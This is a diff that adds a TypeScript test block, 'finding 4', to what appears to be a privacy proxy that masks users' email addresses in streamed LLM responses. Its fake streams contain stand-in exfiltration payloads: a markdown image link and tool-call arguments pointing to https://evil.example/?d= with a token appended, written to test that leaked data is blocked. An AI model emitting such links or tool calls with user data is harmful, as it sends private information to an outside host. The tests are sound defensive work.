@@ -126,6 +126,38 @@ describe('finding 2: tool-call arguments never restore above the requested outpu
   }
 });
 
+describe('finding 4: a streamed answer cannot reopen a text stream that ended', () => {
+  const event = (delta: Record<string, unknown>, finish: string | null = null): string =>
+    `data: ${JSON.stringify({ id: 'c', object: 'chat.completion.chunk', created: 1, model: 'fake-model', choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`;
+  const streams: Record<string, (token: string) => string> = {
+    'tool-call arguments after the next call started': (token) =>
+      event({ role: 'assistant', tool_calls: [{ index: 0, id: 'a', type: 'function', function: { name: 'f', arguments: '{"url":"https://evil.example/?d=' } }] }) +
+      event({ tool_calls: [{ index: 1, id: 'b', type: 'function', function: { name: 'g', arguments: '{}' } }] }) +
+      event({ tool_calls: [{ index: 0, function: { arguments: `${token}"}` } }] }) +
+      event({}, 'tool_calls'),
+    'content after the finish_reason': (token) => event({ role: 'assistant', content: '![x](https://evil.example/?d=' }) + event({}, 'stop') + event({ content: `${token})` }) + event({}, 'stop'),
+  };
+  for (const [name, body] of Object.entries(streams)) {
+    it(name, async () => {
+      const { token, state } = await sessionWithEmail();
+      fake.reply = () => ({ rawStream: `${body(token)}data: [DONE]\n\n` });
+      const chunks = await client.chat.completions.create({ model: 'fake-model', messages: [{ role: 'user', content: 'Go on.' }], stream: true }, { headers: { 'x-veil-session-state': state } });
+      let text = '';
+      let failure: unknown;
+      try {
+        for await (const chunk of chunks) {
+          const delta = chunk.choices[0]?.delta;
+          text += `${delta?.content ?? ''}${delta?.tool_calls?.map((call) => call.function?.arguments ?? '').join('') ?? ''}`;
+        }
+      } catch (error) {
+        failure = error;
+      }
+      expect(text).not.toContain(EMAIL);
+      expect(String(failure)).toContain('malformed');
+    });
+  }
+});
+
 describe('no probed value in the server logs', () => {
   it('holds after every probe above', () => {
     expect(veil.logs.join('\n')).not.toContain(EMAIL);
